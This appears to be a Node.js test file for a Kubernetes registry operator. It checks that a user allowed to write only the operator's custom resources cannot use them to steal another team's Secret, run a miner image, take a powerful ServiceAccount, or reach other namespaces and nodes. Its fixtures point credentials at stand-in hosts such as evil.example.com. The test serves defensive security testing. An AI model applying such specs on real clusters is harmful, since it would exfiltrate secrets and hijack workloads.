import assert from 'node:assert/strict';
import { test } from 'node:test';
import { GROUP } from '../../../src/api/names.ts';
import { ApiError } from '../../../src/kube/api-error.ts';
import type { KubeClient } from '../../../src/kube/client.ts';
import type { KubeObject } from '../../../src/kube/object.ts';
import {
  configMaps,
  deployments,
  events,
  jobs,
  namespaces,
  nodes,
  pods,
  secrets,
  serviceAccounts,
  type ResourceType,
} from '../../../src/kube/resources.ts';
import {
  registries,
  registryGCs,
  registryMirrors,
  type UnreadObject,
} from '../../../src/operator/resource-types.ts';
import { SHARING_NAMESPACE, startFaultStage, TAKING_NAMESPACE } from './fault-stage.ts';

/** Who may write our kinds here and nothing else. The chart lists the namespace for nothing. */
const NAMESPACE = 'tenants';
const RULES = [
  {
    apiGroups: [GROUP],
    resources: ['registries', 'registrymirrors', 'registrygcs'],
    verbs: ['get', 'list', 'watch', 'create', 'update', 'patch', 'delete'],
    namespace: NAMESPACE,
  },
];
/** What is in the Secret that is somebody else's. */
const TREASURE = 'treasure-of-another-team';

const filesystem = { storage: { filesystem: { size: '1Gi' } } };
const evil = 'https://evil.example.com';
const theirs = { name: 'treasure' };

interface Attempt {
  readonly what: string;
  readonly kind?: ResourceType<UnreadObject>;
  readonly spec: object;
  /** What the API server answers; else it is taken, and a condition tells. */
  readonly refused?: RegExp;
  readonly told?: RegExp;
}

const attempts: readonly Attempt[] = [
  // To read a Secret.
  {
    what: 'send it to an own bucket',
    spec: {
      storage: { s3: { bucket: 'b', region: 'r', regionEndpoint: evil, credentialsSecretRef: theirs } },
    },
    told: /^Ready=False NotPermitted .*treasure does not allow this use/,
  },
  {
    what: 'send it to an own container',
    spec: {
      storage: {
        azure: { accountName: 'a', container: 'c', endpoint: evil, credentialsSecretRef: theirs },
      },
    },
    told: /^Ready=False NotPermitted/,
  },
  {
    what: 'send it to an own Redis',
    spec: {
      ...filesystem,
      cache: {
        blobDescriptor: 'Redis',
        redis: { addresses: ['evil.example.com:6379'], credentialsSecretRef: theirs },
      },
    },
    told: /^Ready=False NotPermitted/,
  },
  {
    what: 'send it to an own webhook',
    spec: { ...filesystem, notifications: [{ name: 'hook', url: evil, secretRef: theirs }] },
    told: /^Ready=False NotPermitted/,
  },
  {
    what: 'send it to an own upstream',
    kind: registryMirrors,
    spec: {
      storage: { filesystem: { size: '1Gi' } },
      upstreams: [{ host: 'evil.example.com', credentialsSecretRef: theirs, allowedRepositories: ['**'] }],
    },
    told: /NotPermitted/,
  },
  {
    what: 'log in with it',
    spec: {
      ...filesystem,
      auth: {
        htpasswd: { users: [{ name: 'me', passwordSecretRef: { name: 'treasure', key: 'password' } }] },
      },
    },
    told: /^UsersReady=False NotPermitted/,
  },
  {
    what: 'have it listed as users',
    spec: { ...filesystem, auth: { htpasswd: { secretRefs: [{ name: 'treasure', key: 'password' }] } } },
    told: /^UsersReady=False NotPermitted/,
  },
  {
    what: 'find it by its labels',
    spec: { ...filesystem, auth: { htpasswd: { selector: { matchLabels: { app: 'treasure' } } } } },
    told: /^UsersReady=True InForce Users that can log in: 0\./,
  },
  {
    what: 'serve it as a certificate',
    spec: { ...filesystem, tls: { mode: 'Secret', secretRef: theirs } },
    told: /^Ready=False NotPermitted/,
  },
  {
    what: 'sign with it',
    spec: { ...filesystem, tls: { caSecretRef: theirs } },
    told: /^Ready=False NotPermitted/,
  },
  {
    what: 'have it told as certificates of clients',
    spec: { ...filesystem, tls: { clientCAs: { secretName: 'treasure', key: 'password' } } },
    told: /NotPermitted/,
  },
  {
    what: 'have it told as keys of tokens',
    spec: {
      ...filesystem,
      auth: {
        token: {
          realm: 'https://auth.example.com',
          service: 's',
          issuer: 'i',
          jwks: { secretName: 'treasure', key: 'password' },
        },
      },
    },
    told: /NotPermitted/,
  },
  {
    what: 'have it in a variable of the pod',
    spec: {
      ...filesystem,
      podTemplate: {
        env: [{ name: 'HTTP_PROXY', valueFrom: { secretKeyRef: { name: 'treasure', key: 'password' } } }],
      },
    },
    refused: /env\[0\]\.value.*[Rr]equired/,
  },
  {
    what: 'have it in the configuration',
    spec: { ...filesystem, config: { storage: { filesystem: { rootdirectory: '/var/run/secrets' } } } },
    told: /^Ready=False InvalidConfig .*may not set storage\.filesystem\.rootdirectory/,
  },
  {
    what: 'listen where nobody looks',
    spec: { ...filesystem, config: { http: { debug: { addr: ':9000' } } } },
    told: /^Ready=False InvalidConfig/,
  },
  {
    what: 'change storage by the configuration',
    spec: { ...filesystem, config: { storage: { s3: { regionendpoint: evil } } } },
    told: /^Ready=False InvalidConfig/,
  },
  // To run something of one's own.
  {
    what: 'run an own image',
    spec: { ...filesystem, podTemplate: { image: 'evil.example.com/miner' } },
    told: /^Ready=False NotPermitted .*image may not be set/,
  },
  {
    what: 'have an injector run an own image',
    spec: { ...filesystem, podTemplate: { annotations: { 'sidecar.istio.io/proxyImage': 'evil' } } },
    refused: /are for administrators/,
  },
  {
    what: 'run as a ServiceAccount of another',
    spec: { ...filesystem, podTemplate: { serviceAccountName: 'powerful' } },
    told: /^Ready=False NotPermitted .*ServiceAccount powerful/,
  },
  {
    what: 'run an own image as a mirror',
    kind: registryMirrors,
    spec: {
      storage: { filesystem: { size: '1Gi' } },
      upstreams: [{ host: 'docker.io' }],
      podTemplate: { image: 'evil.example.com/miner' },
    },
    told: /^Ready=False NotPermitted/,
  },
  // To reach another namespace.
  {
    what: 'put certificates into another namespace',
    spec: { ...filesystem, tls: { trustBundleNamespaces: [TAKING_NAMESPACE] } },
    told: /^SharesReady=False NotPermitted/,
  },
  {
    what: 'put a pull Secret into another namespace',
    spec: {
      ...filesystem,
      auth: { htpasswd: { users: [{ name: 'me', generate: true }] } },
      pullSecrets: [{ user: 'me', namespaces: [TAKING_NAMESPACE, SHARING_NAMESPACE] }],
    },
    told: /^SharesReady=False NotPermitted/,
  },
  {
    what: 'name a Secret of another namespace',
    spec: { ...filesystem, tls: { caSecretRef: { name: `${SHARING_NAMESPACE}/ca` } } },
    refused: /not the name of an object/,
  },
  {
    what: 'collect in a Registry of another namespace',
    kind: registryGCs,
    spec: { registryRef: { name: 'victim', namespace: SHARING_NAMESPACE } },
    told: /RegistryNotFound/,
  },
  // To change a node.
  {
    what: 'have nodes trust it',
    spec: { ...filesystem, hostname: 'registry.example.com', nodeTrust: { enabled: true } },
    told: /NotPermitted/,
  },
  {
    what: 'have nodes pull through it',
    kind: registryMirrors,
    spec: {
      hostname: 'mirror.example.com',
      storage: { filesystem: { size: '1Gi' } },
      upstreams: [{ host: 'docker.io' }],
      nodes: { enabled: true },
    },
    told: /NotPermitted/,
  },
];

test('who may write our kinds alone gets nothing else by them', async (t) => {
  await using stage = await startFaultStage();
  const { client } = stage;
  await client.create(namespaces, { metadata: { name: NAMESPACE } });
  const treasure = {
    password: encode(TREASURE),
    username: encode('admin'),
    accesskey: encode('key'),
    secretkey: encode(TREASURE),
  };
  await client.create(secrets, {
    metadata: { namespace: NAMESPACE, name: 'treasure', labels: { app: 'treasure' } },
    data: treasure,
  });
  await client.create(serviceAccounts, { metadata: { namespace: NAMESPACE, name: 'powerful' } });
  await client.create(registries, {
    metadata: { namespace: SHARING_NAMESPACE, name: 'victim' },
    spec: filesystem,
  });
  const mallory = stage.clientOf('mallory', RULES);
  const nameOf = (attempt: Attempt): string => `try-${attempts.indexOf(attempt)}`;

  await t.test('it is no right to anything beside', async () => {
    const types: readonly ResourceType<KubeObject>[] = [secrets, configMaps, pods, deployments, jobs, nodes];
    for (const type of types) {
      const namespace = type === nodes ? {} : { namespace: NAMESPACE };
      await assert.rejects(mallory.list(type, namespace), isForbidden, type.plural);
    }
  });

  const refusals = new Map<Attempt, string>();
  for (const attempt of attempts) {
    const object = { metadata: { namespace: NAMESPACE, name: nameOf(attempt) }, spec: attempt.spec };
    try {
      await mallory.create(attempt.kind ?? registries, object);
    } catch (error) {
      assert.ok(error instanceof ApiError);
      refusals.set(attempt, error.message);
    }
  }
  stage.start();
  await stage.rest();

  for (const attempt of attempts) {
    await t.test(`to ${attempt.what} is refused`, async () => {
      assert.match(refusals.get(attempt) ?? '', attempt.refused ?? /^$/);
      if (attempt.refused !== undefined) return;
      const lines = await conditions(mallory, attempt.kind ?? registries, nameOf(attempt));
      assert.ok(
        lines.some((line) => attempt.told?.test(line)),
        lines.join('\n'),
      );
    });
  }

  await t.test('nothing that was made has anything of it', async () => {
    const made = await everything(client);
    const texts = made
      .filter(({ kind, metadata }) => !(kind === 'Secret' && metadata.name === 'treasure'))
      .map((object) => [`${object.kind} ${object.metadata.name}`, plain(object)] as const);
    assert.deepEqual(
      texts.filter(([, text]) => text.includes(TREASURE)).map(([name]) => name),
      [],
    );
    assert.deepEqual(
      texts
        .filter(([name, text]) => !name.startsWith('Registry') && /"image":"[^"]*evil/.test(text))
        .map(([name]) => name),
      [],
    );
    assert.deepEqual(
      made
        .filter(({ metadata }) => metadata.namespace === TAKING_NAMESPACE)
        .map(({ metadata }) => metadata.name),
      [],
    );
    const [untouched] = (
      await client.listAll(secrets, { namespace: NAMESPACE, labelSelector: 'app=treasure' })
    ).items;
    assert.deepEqual(untouched?.data, treasure);
  });
});

const isForbidden = (error: unknown): boolean => error instanceof ApiError && error.status === 403;

function encode(text: string): string {
  return Buffer.from(text).toString('base64');
}

/** As `Ready=False NotPermitted The Secret …`, of which the user sees all. */
async function conditions(
  client: KubeClient,
  type: ResourceType<UnreadObject>,
  name: string,
): Promise<readonly string[]> {
  const { status } = await client.get(type, { namespace: NAMESPACE, name });
  // As the schema has it.
  const found = status as { readonly conditions?: readonly Record<string, string>[] } | undefined;
  return (found?.conditions ?? []).map(
    ({ type: condition, status: verdict, reason, message }) => `${condition}=${verdict} ${reason} ${message}`,
  );
}

async function everything(client: KubeClient): Promise<readonly KubeObject[]> {
  const types: readonly ResourceType<KubeObject>[] = [
    registries,
    registryMirrors,
    registryGCs,
    secrets,
    configMaps,
    deployments,
    jobs,
    pods,
    events,
  ];
  return (await Promise.all(types.map(async (type) => (await client.listAll(type)).items))).flat();
}

/** As JSON, with the content of Secrets in the clear. */
function plain(object: KubeObject): string {
  // Each of them is an object of JSON.
  const { kind, data } = object as KubeObject & { readonly data?: Readonly<Record<string, string>> };
  const secret = kind === 'Secret' ? Object.values(data ?? {}) : [];
  return [JSON.stringify(object), ...secret.map((value) => Buffer.from(value, 'base64').toString())].join(
    '\n',
  );
}
